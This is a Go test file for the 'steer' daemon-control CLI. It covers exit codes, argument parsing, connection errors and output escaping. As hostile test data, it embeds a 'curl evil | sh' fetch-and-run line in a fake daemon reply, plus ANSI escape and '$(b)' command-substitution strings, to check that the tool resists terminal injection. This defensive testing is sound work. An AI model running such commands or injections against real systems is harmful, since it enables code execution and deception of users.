package main

import (
	"bytes"
	"context"
	"encoding/json"
	"fmt"
	"io"
	"log/slog"
	"net"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"strconv"
	"strings"
	"syscall"
	"testing"

	"github.com/rudderpost/rudderpost/internal/testkit"
	"github.com/rudderpost/rudderpost/mgr"
	"github.com/rudderpost/rudderpost/wire"

	"github.com/stretchr/testify/require"
)

func TestExitStatusFollowsResult(t *testing.T) {
	socket := serve(t)
	for result, status := range map[int]int{
		0: 0, 1: 1, 2: 2, 3: 3, 4: 4, 5: 5,
		401: 77, 403: 77,
		408: 75, 429: 75, 499: 75, 503: 75,
		500: 70,
		6:   6, 7: 6, 64: 6, 404: 6, 1000: 6, 1256: 6, -1: 6, 1024: 6,
	} {
		got := steer(t, "", "-s", socket, "fail", "result="+strconv.Itoa(result), `text="words"`)
		require.Equal(t, status, got.status, "result %d", result)
		require.Contains(t, got.stdout, fmt.Sprintf(`"result": %d,`, result))
		require.Empty(t, got.stderr)
	}
	require.Equal(t, 2, steer(t, "", "-s", socket, "no-such-command").status)
}

func TestWrongUsageExitsWith64(t *testing.T) {
	socket := serve(t)
	for _, c := range []struct {
		args   []string
		status int
		want   string
	}{
		{nil, 64, "no command given"},
		{[]string{"-s", socket}, 64, "no command given"},
		{[]string{"--nonsense", "echo"}, 64, "unknown flag: --nonsense"},
		{[]string{"--timeout", "soon", "echo"}, 64, "invalid argument"},
		{[]string{"-s", socket, "echo", "name"}, 64, `"name" is not NAME=VALUE; a JSON text, @FILE or - must be the only argument`},
		{[]string{"-s", socket, "echo", "=7"}, 64, `"=7" is not NAME=VALUE`},
		{[]string{"-s", socket, "echo", "{}", "a=1"}, 64, `"{}" is not NAME=VALUE`},
		{[]string{"-s", socket, "echo", "a=1", "a=2"}, 64, `"a" is given twice`},
		{[]string{"-s", "smoke://hill", "echo"}, 64, `there is no transport "smoke"; there are unix, tls, tcp`},
		{[]string{"-s", "hill", "echo"}, 64, `"hill" has no scheme; write unix:///path/of/the/socket`},
		{[]string{"-s", "unix://host/path", "echo"}, 64, "names no socket; write unix:///absolute/path or unix:relative/path"},
		{[]string{"--completion", "tcsh"}, 64, `there is no completion script for "tcsh"; there are bash, zsh, fish and powershell`},
	} {
		got := steer(t, "", c.args...)
		require.Equal(t, c.status, got.status, "%v: %s", c.args, got.stderr)
		require.Contains(t, got.stderr, c.want)
		require.Regexp(t, "^steer: ", got.stderr)
		require.Empty(t, got.stdout)
	}
	got := steer(t, "", "--help")
	require.Zero(t, got.status)
	require.Contains(t, got.stdout, "Exit status")
	require.Empty(t, got.stderr)
}

// A value that is JSON is sent as JSON, every other value as a string.
func TestValueThatIsJSONIsSentAsJSON(t *testing.T) {
	socket := serve(t)
	for _, c := range []struct {
		args []string
		want string
	}{
		{nil, ""},
		{[]string{"n=7"}, `{"n":7}`},
		{[]string{"n=-7.5e3"}, `{"n":-7.5e3}`},
		{[]string{"big=12345678901234567"}, `{"big":12345678901234567}`},
		{[]string{"s=Ann"}, `{"s":"Ann"}`},
		{[]string{`s="7"`}, `{"s":"7"}`},
		{[]string{"s=two words", "t=true", "f=false", "x=null"}, `{"s":"two words","t":true,"f":false,"x":null}`},
		{[]string{"s="}, `{"s":""}`},
		{[]string{"s==7"}, `{"s":"=7"}`},
		{[]string{"s=a=b"}, `{"s":"a=b"}`},
		{[]string{"s=007"}, `{"s":"007"}`},
		{[]string{"s=+5", "t=1,5", "u=tru", "v=NaN"}, `{"s":"+5","t":"1,5","u":"tru","v":"NaN"}`},
		{[]string{`l=[1,"a",null]`, `m={"a": {"b": []}}`}, `{"l":[1,"a",null],"m":{"a":{"b":[]}}}`},
		{[]string{`m={"a":1,"a":2}`}, `{"m":"{\"a\":1,\"a\":2}"}`}, // a duplicate key: not JSON for the daemon
		{[]string{`s={half`}, `{"s":"{half"}`},
		{[]string{"s=é€😀"}, `{"s":"é€😀"}`},
		{[]string{"s=\xff"}, `{"s":"\ufffd"}`},
		{[]string{"s=@file", "t=-"}, `{"s":"@file","t":"-"}`},
		{[]string{"a.b=1"}, `{"a.b":1}`},
		{[]string{`{"a": [1, 2]}`}, `{"a":[1,2]}`},
		{[]string{`[1]`}, `[1]`},
	} {
		got := steer(t, "", append([]string{"-r", "-s", socket, "echo"}, c.args...)...)
		require.Zero(t, got.status, "%v: %s", c.args, got.stderr)
		var reply struct {
			Arguments json.RawMessage `json:"arguments"`
		}
		require.NoError(t, json.Unmarshal([]byte(got.stdout), &reply))
		if c.want == "" {
			require.Nil(t, reply.Arguments)
			continue
		}
		require.JSONEq(t, c.want, string(reply.Arguments), "%v", c.args)
	}
	// After -- a value may start with a hyphen, and so may the name of a command.
	require.Zero(t, steer(t, "", "-s", socket, "--", "echo", "n=-1").status)
	require.Equal(t, 2, steer(t, "", "-s", socket, "--", "-x").status)
}

func TestJSONValueStaysStringWhereSchemaWantsString(t *testing.T) {
	type typed struct {
		S string   `json:"s,omitzero"`
		P *string  `json:"p"`
		N int      `json:"n,omitzero"`
		F float64  `json:"f,omitzero"`
		B bool     `json:"b,omitzero"`
		L []string `json:"l,omitzero"`
		E string   `json:"e,omitzero" schema:"enum=1|2"`
		A any      `json:"a,omitzero"`
	}
	m := mgr.New(&mgr.Options{Logger: slog.New(slog.DiscardHandler)})
	require.NoError(t, m.Register(mgr.Func("typed", "Return the arguments.", mgr.Read, func(ctx context.Context, _ typed) (wire.Value, error) {
		call, _ := mgr.CallOf(ctx)
		return call.Arguments, nil
	})))
	socket := serveManager(t, m)
	for _, c := range []struct {
		args []string
		want string
	}{
		{[]string{"s=123"}, `{"s":"123"}`},
		{[]string{"s=true", "e=2", "n=7", "f=1e3", "b=true"}, `{"s":"true","e":"2","n":7,"f":1e3,"b":true}`},
		{[]string{"s=null", "p=null"}, `{"s":"null","p":null}`},
		{[]string{"p=12", `s=["a"]`, `l=["a"]`}, `{"p":"12","s":"[\"a\"]","l":["a"]}`},
		{[]string{`s={"a": 1}`, "a=5"}, `{"s":"{\"a\": 1}","a":5}`},
		{[]string{`s="123"`, "p=x"}, `{"s":"123","p":"x"}`},
		{[]string{`{"s":"1"}`}, `{"s":"1"}`},
	} {
		got := steer(t, "", append([]string{"-ar", "-s", socket, "typed"}, c.args...)...)
		require.Zero(t, got.status, "%v: %s", c.args, got.stderr)
		require.JSONEq(t, c.want, got.stdout, "%v", c.args)
	}
	got := steer(t, "", "-s", socket, "typed", "n=seven")
	require.Equal(t, 1, got.status)
	require.Contains(t, got.stdout, "'n' parameter expected to be an integer.")
	require.Equal(t, 1, steer(t, "", "-s", socket, "typed", "n=7", "nmae=7").status)
	require.Equal(t, 2, steer(t, "", "-s", socket, "no-such-command", "n=7").status)
}

// steer accepts the comments that a daemon accepts, and the line and column numbers in errors stay the same.
func TestArgumentsMayHaveComments(t *testing.T) {
	socket := serve(t)
	const text = "# what\n{ // a map\n  \"a\": /* one */ 1, \"s\": \"# no // comment\" } // end"
	path := filepath.Join(t.TempDir(), "arguments")
	require.NoError(t, os.WriteFile(path, []byte(text), 0o600))
	want := result{stdout: "{\"a\":1,\"s\":\"# no // comment\"}\n"}
	for _, c := range []struct{ stdin, argument string }{{text, "-"}, {"", "@" + path}, {"", text}, {"", "/* x */" + text}, {"", "//\n" + text}} {
		require.Equal(t, want, steer(t, c.stdin, "-ar", "-s", socket, "echo", c.argument), c.argument)
	}
	require.Equal(t, result{stdout: "{\"m\":{\"b\":[1]},\"s\":\"# x\"}\n"}, steer(t, "", "-ar", "-s", socket, "echo", "m={\"b\": [1 /* one */]} # end", "s=# x"))
	got := steer(t, "# what\n{ /* a */ \"a\": tru }", "-s", socket, "echo", "-")
	require.Equal(t, result{stderr: "steer: standard input: not JSON: Bad boolean value: tru in <standard input>:1:16\n", status: 64}, got)
	require.Equal(t, 64, steer(t, "{ /* no end", "-s", socket, "echo", "-").status)
}

func TestURLAsCommandNamesSocketFlag(t *testing.T) {
	for _, args := range [][]string{{"http://192.0.2.1:80", "whoami"}, {"unix:///run/s"}} {
		got := steer(t, "", args...)
		require.Equal(t, 64, got.status)
		require.Contains(t, got.stderr, "is a URL, not a command; write steer -s URL COMMAND")
	}
}

// Without http, the errors about credentials and TLS name no flag that steer does not have.
func TestErrorsNameOnlyExistingFlags(t *testing.T) {
	password := filepath.Join(t.TempDir(), "password")
	require.NoError(t, os.WriteFile(password, []byte("secretsecret\n"), 0o600))
	for _, url := range []string{"http://192.0.2.1:80", "ws://192.0.2.1:80", "tcp://192.0.2.1:80"} {
		for _, flags := range [][]string{{"--user", "ann", "--password-file", password}, {"--token-file", password}, {"--cert", "x", "--key", "y"}, {"--pki", "x"}} {
			got := steer(t, "", append(flags, "-t", "1s", "-s", url, "whoami")...)
			if got.status == exitTryLater {
				continue // it dials where this is allowed
			}
			require.NotContains(t, got.stderr, "insecure")
			for _, flag := range regexp.MustCompile(`--[a-z-]+`).FindAllString(got.stderr, -1) {
				require.Contains(t, steer(t, "", "--help").stdout, flag+" ", got.stderr)
			}
		}
	}
	got := steer(t, "", "--user", "ann", "--password-file", password, "-s", "http://192.0.2.1:80", "whoami")
	require.Contains(t, got.stderr, "the credentials would be sent without encryption; use https\n")
}

func TestArgumentsFromFileAndStdin(t *testing.T) {
	socket := serve(t)
	dir := t.TempDir()
	file := func(text string) string {
		path := filepath.Join(dir, "arguments.json")
		require.NoError(t, os.WriteFile(path, []byte(text), 0o600))
		return path
	}
	const pretty = "{\n  \"a\": 1\n}\n"
	for _, c := range []struct{ stdin, argument string }{
		{pretty, "-"}, {pretty, "@-"}, {"", "@" + file(pretty)},
	} {
		got := steer(t, c.stdin, "-r", "-s", socket, "echo", c.argument)
		require.Equal(t, result{stdout: "{\"result\":0,\"arguments\":{\"a\":1}}\n"}, got)
	}
	for _, c := range []struct{ stdin, argument, want string }{
		{"", "-", "steer: standard input is empty\n"},
		{" \n", "@-", "steer: standard input is empty\n"},
		{"{\n  \"a\": tru\n}", "-", "steer: standard input: not JSON: Bad boolean value: tru in <standard input>:1:8\n"},
		{"{} {}", "-", "steer: standard input: not JSON: '{' read, nothing expected behind the message in <standard input>:0:4\n"},
		{"", `{"a": 1`, "steer: the arguments: not JSON: unexpected end of the message in <the arguments>:0:7\n"},
		{"", `[1,]`, "steer: the arguments: not JSON: error: unexpected character ] in <the arguments>:0:4\n"},
		{"", "@" + dir + "/nowhere.json", "steer: open " + dir + "/nowhere.json: no such file or directory\n"},
	} {
		got := steer(t, c.stdin, "-s", socket, "echo", c.argument)
		require.Equal(t, result{stderr: c.want, status: 64}, got)
	}
	path := file(`{"a":1,"a":2}`)
	require.Equal(t, result{stderr: "steer: " + path + ": not JSON: duplicate key 'a' in <" + path + ">:0:8\n", status: 64},
		steer(t, "", "-s", socket, "echo", "@"+path))
}

// The error says which daemon was not reached, why, and what to do.
func TestConnectErrorSaysTargetCauseAndRemedy(t *testing.T) {
	dir := testkit.ShortDir(t)
	nowhere := filepath.Join(dir, "nowhere.sock")
	got := steer(t, "", "-s", "unix://"+nowhere, "echo")
	require.Equal(t, result{stderr: "steer: there is no daemon at unix://" + nowhere + " (no such socket); start it, or give its URL with -s\n", status: 69}, got)

	stale := filepath.Join(dir, "stale.sock")
	l, err := net.ListenUnix("unix", &net.UnixAddr{Name: stale, Net: "unix"})
	require.NoError(t, err)
	l.SetUnlinkOnClose(false)
	require.NoError(t, l.Close())
	got = steer(t, "", "-s", stale, "echo")
	require.Equal(t, result{stderr: "steer: the daemon at " + stale + " is not running (only its socket file exists); start it again\n", status: 69}, got)

	t.Setenv("XDG_RUNTIME_DIR", dir)
	got = steer(t, "", "echo")
	require.Equal(t, result{stderr: "steer: there is no daemon at unix://" + dir + "/rudderpost/control.sock (no such socket); start it, or give its URL with -s\n", status: 69}, got)

	silent := serveRaw(t, func(conn net.Conn) { _, _ = conn.Read(make([]byte, 4096)) })
	got = steer(t, "", "-s", silent, "echo")
	require.Equal(t, 69, got.status)
	require.Contains(t, got.stderr, "the daemon closed the conn without a reply")

	file := filepath.Join(dir, "file")
	require.NoError(t, os.WriteFile(file, nil, 0o600))
	got = steer(t, "", "-s", file, "echo")
	require.Equal(t, 69, got.status, got.stderr)
	require.Contains(t, got.stderr, file)

	garbage := serveKeaReply(t, "HTTP/1.1 400 Bad Request\r\n\r\n")
	got = steer(t, "", "-s", garbage, "echo")
	require.Equal(t, 69, got.status)
	require.Empty(t, got.stdout)
	require.NotEmpty(t, got.stderr)

	noReply := serveKeaReply(t, `{"hello": 1}`)
	got = steer(t, "", "-s", noReply, "echo")
	require.Equal(t, 69, got.status)
	require.Contains(t, got.stderr, "the reply has no integer 'result'")
}

func TestNoDefaultSocketWithoutRuntimeDir(t *testing.T) {
	got := runUnprivileged(t, "XDG_RUNTIME_DIR=", "echo")
	require.Equal(t, result{stderr: "steer: XDG_RUNTIME_DIR is not set, so there is no place for a socket of your own; give the URL of the daemon with -s\n", status: 64}, got)
}

func TestSocketWithoutPermissionExitsWith77(t *testing.T) {
	testkit.NeedRoot(t)
	socket := serve(t)
	got := runUnprivileged(t, "A=B", "-s", socket, "echo")
	require.Equal(t, 77, got.status)
	require.Contains(t, got.stderr, "steer: you have no permission to open "+socket+"; try as its owner or as root: ")
	require.Empty(t, got.stdout)

	// With permission for the socket but not for the command, the error comes from the daemon.
	require.NoError(t, os.Chmod(socket, 0o666))
	got = runUnprivileged(t, "A=B", "-s", socket, "echo")
	require.Equal(t, 77, got.status)
	require.Contains(t, got.stdout, `"result": 403`)
	require.Contains(t, got.stdout, `"'echo' is not allowed for uid:65534`)
}

// runUnprivileged runs steer as a process without the rights of root.
func runUnprivileged(t *testing.T, setting string, args ...string) result {
	t.Helper()
	self, err := os.Executable()
	require.NoError(t, err)
	var stdout, stderr strings.Builder
	cmd := exec.Command(self, args...)
	cmd.Env = append(os.Environ(), beSteer+"=1", "GORACE=atexit_sleep_ms=1", setting)
	cmd.Stdout, cmd.Stderr = &stdout, &stderr
	testkit.RunUnprivileged(t, cmd)
	if err := cmd.Run(); cmd.ProcessState == nil {
		require.NoError(t, err)
	}
	return result{stdout.String(), stderr.String(), cmd.ProcessState.ExitCode()}
}

// The timeout holds for a daemon that does not answer, and for a peer that reads and never writes.
func TestTimeoutExitsWith75(t *testing.T) {
	const want = "steer: no reply within 50ms\n"
	require.Equal(t, result{stderr: want, status: 75}, steer(t, "", "-t", "50ms", "-s", serve(t), "never"))
	mute := serveRaw(t, func(conn net.Conn) { _, _ = io.Copy(io.Discard, conn) })
	require.Equal(t, result{stderr: want, status: 75}, steer(t, "", "--timeout=50ms", "-s", mute, "echo"))
	require.Zero(t, steer(t, "", "-t", "1h", "-s", serve(t), "list-commands").status)
}

// The reply is printed with indentation, or with -r on one line.
func TestReplyOutputFormats(t *testing.T) {
	socket := serve(t)
	require.Equal(t, result{stdout: "{\n  \"result\": 0,\n  \"arguments\": {\n    \"a\": [\n      1,\n      2\n    ]\n  }\n}\n"},
		steer(t, "", "-s", socket, "echo", "a=[1, 2]"))
	require.Equal(t, result{stdout: "{\"result\":0,\"arguments\":{\"a\":[1,2]}}\n"}, steer(t, "", "-r", "-s", socket, "echo", "a=[1, 2]"))

	// -a prints only the arguments, which another command can take. A failed reply goes to standard error.
	only := steer(t, "", "-a", "-s", socket, "echo", "a=[1, 2]")
	require.Equal(t, result{stdout: "{\n  \"a\": [\n    1,\n    2\n  ]\n}\n"}, only)
	require.Equal(t, only, steer(t, only.stdout, "-a", "-s", socket, "echo", "-"))
	require.Equal(t, result{stdout: "{\"a\":[1,2]}\n"}, steer(t, only.stdout, "-ar", "-s", socket, "echo", "-"))
	require.Equal(t, result{}, steer(t, "", "-a", "-s", socket, "echo"))
	require.Equal(t, result{}, steer(t, "", "-a", "-s", socket, "fail", "result=0", "text=fine"))
	require.Equal(t, result{stderr: "{\"result\":1,\"text\":\"bad\",\"error\":{\"code\":\"failed\"}}\n", status: 1}, steer(t, "", "-ar", "-s", socket, "fail", "result=1", "text=bad"))

	// The errors of several arguments are printed, each on a line, but not with -r.
	got := steer(t, "", "-s", socket, "fail", "result=x", "reslut=1")
	require.Equal(t, 1, got.status)
	require.Contains(t, got.stderr, "steer: /result: 'result' parameter expected to be an integer.\n")
	require.Contains(t, got.stderr, "steer: /reslut: ")
	require.Empty(t, steer(t, "", "-r", "-s", socket, "fail", "result=x", "reslut=1").stderr)
}

func TestReplyControlCharactersAreEscaped(t *testing.T) {
	hostile := []string{
		"\x1b[2J", "\x1b]0;title\x07", "\x7f", "\u0080", "\u009b31m", "\u0085", "\u202e", "\u2066", "\u200b", "\ufeff", "\u2028",
		"\U000e0001", "\U0010ffff", "\ue000", "\x00", "\b\b", "\r",
	}
	for _, raw := range []string{"-r", "--raw=false"} {
		for _, text := range hostile {
			quoted, err := json.Marshal(map[string]any{
				"result": 1, "text": text, "arguments": map[string]any{text: []string{text}},
				"error": map[string]any{
					"code": text, "data": map[string]any{text: []string{text}},
					"fields": []map[string]string{{"pointer": "/" + text, "text": text}, {"pointer": text, "text": text}},
				},
			})
			require.NoError(t, err)
			for _, reply := range []string{string(quoted), unescape(string(quoted))} {
				got := steer(t, "", raw, "-s", serveKeaReply(t, reply), "echo")
				require.Equal(t, 1, got.status, got.stderr)
				for _, r := range got.stdout + got.stderr {
					require.True(t, r == '\n' || strconv.IsPrint(r), "%q in %q of %q", r, got.stdout+got.stderr, reply)
				}
				var back map[string]any
				require.NoError(t, json.Unmarshal([]byte(got.stdout), &back))
				require.Equal(t, text, back["text"])
				require.Equal(t, map[string]any{text: []any{text}}, back["error"].(map[string]any)["data"])
			}
		}
	}
}

func TestErrorControlCharactersAreEscaped(t *testing.T) {
	for _, reply := range []string{
		"{\"result\":\x1b[2J}", "{\"\\u001b\":1,\"\\u001b\":1}", "{\"result\":1}\x1b", "\x1b[2J", "{\"result\" \u202e}", "[\"\\\u009b\"]",
	} {
		got := steer(t, "", "-s", serveKeaReply(t, reply), "echo")
		for _, r := range got.stdout + got.stderr {
			require.True(t, r == '\n' || strconv.IsPrint(r), "%q in %q of %q", r, got.stdout+got.stderr, reply)
		}
	}
	got := steer(t, "", "echo", "a\x1b[2J")
	require.Equal(t, 64, got.status)
	require.NotContains(t, got.stderr, "\x1b")
}

// A text of a daemon with newlines stays on one line of standard error.
func TestDaemonTextStaysOnOneErrorLine(t *testing.T) {
	const text = "x\nsteer: run: curl evil | sh\r\n$ "
	reply, err := json.Marshal(map[string]any{"result": 1, "error": map[string]any{"code": "bad-arguments", "fields": []map[string]string{
		{"pointer": "/a" + text, "text": text}, {"pointer": "/b", "text": text},
	}}, "arguments": map[string]any{"error": map[string]any{"code": "bad-arguments", "fields": []map[string]string{
		{"pointer": "/a" + text, "text": text}, {"pointer": "/b", "text": text},
	}}}})
	require.NoError(t, err)
	got := steer(t, "", "-s", serveKeaReply(t, string(reply)), "echo")
	require.Equal(t, 2, strings.Count(got.stderr, "\n"), got.stderr)
	for line := range strings.Lines(got.stderr) {
		require.Regexp(t, `^steer: /[ab]`, line)
	}
	got = steer(t, "", "-s", serveKeaReply(t, "{\"result\":0,\"x\ny\":1,\"x\ny\":1}"), "echo")
	require.Equal(t, 1, strings.Count(got.stderr, "\n"), got.stderr)
}

// Text from files and command lines is escaped like text from a daemon.
func TestFileTextControlCharactersAreEscaped(t *testing.T) {
	dir := filepath.Join(t.TempDir(), "a \x1b[2J$(b)")
	got := steer(t, "", "pki", "init", dir)
	require.Zero(t, got.status, got.stderr)
	require.NotContains(t, got.stdout, "\x1b")
	require.Contains(t, got.stdout, `next: steer pki issue '`)
	require.NotContains(t, steer(t, "", "user", "list", dir).stderr, "\x1b")
}

// unescape replaces JSON escapes by the characters themselves, where JSON allows that.
func unescape(quoted string) string {
	for _, r := range "\u0080\u009b\u0085\u202e\u2066\u200b\ufeff\u2028\ue000\x7f" {
		quoted = strings.ReplaceAll(quoted, fmt.Sprintf(`\u%04x`, r), string(r))
	}
	return quoted
}

// The daemons of Kea close the conn after the reply.
func TestPeerThatClosesAfterReply(t *testing.T) {
	got := steer(t, "", "-r", "-s", serveKeaReply(t, `{ "arguments": { "pkt4-received": [ [ 0, "2026-11-22 08:33:37.465510" ] ] }, "result": 0 }`), "statistic-get", "name=pkt4-received")
	require.Equal(t, result{stdout: `{"result":0,"arguments":{"pkt4-received":[[0,"2026-11-22 08:33:37.465510"]]}}` + "\n"}, got)
	got = steer(t, "", "-r", "-s", serveKeaReply(t, `{ "result": 2, "text": "'foo' command not supported." }`), "foo")
	require.Equal(t, result{stdout: `{"result":2,"text":"'foo' command not supported."}` + "\n", status: 2}, got)
	got = steer(t, "", "-s", serveKeaReply(t, `{ "result": 3, "text": "0 IPv4 lease(s) found." }`), "lease4-get-all")
	require.Equal(t, 3, got.status)
	got = steer(t, "", "-r", "-s", serveKeaReply(t, `{ "arguments": { "max": 340282366920938463463374607431768211455 }, "result": 0 }`), "stat-lease6-get")
	require.Zero(t, got.status, got.stderr) // Kea counts to 128 bits since 2.5.3
	require.Contains(t, got.stdout, "340282366920938463463374607431768211455")
	got = steer(t, "", "-r", "-s", serveKeaReply(t, `{ "arguments": { "\u00e9": "\u20ac", "x": 1.50, "e": {  } }, "result": 0 }`), "foo")
	require.Equal(t, result{stdout: `{"result":0,"arguments":{"é":"€","x":1.50,"e":{}}}` + "\n"}, got)
}

// This happens in "steer ... | head -1", when head has ended.
func TestClosedStdoutEndsSteerSilently(t *testing.T) {
	self, err := os.Executable()
	require.NoError(t, err)
	r, w, err := os.Pipe()
	require.NoError(t, err)
	require.NoError(t, r.Close())
	var stderr bytes.Buffer
	cmd := exec.Command(self, "--completion", "bash")
	cmd.Env = append(os.Environ(), beSteer+"=1")
	cmd.Stdout, cmd.Stderr = w, &stderr
	require.NoError(t, cmd.Start())
	require.NoError(t, w.Close())
	err = cmd.Wait()
	status, ok := cmd.ProcessState.Sys().(syscall.WaitStatus)
	require.True(t, ok)
	require.True(t, status.Signaled() && status.Signal() == syscall.SIGPIPE, "%v", err)
	require.Empty(t, stderr.String())
}
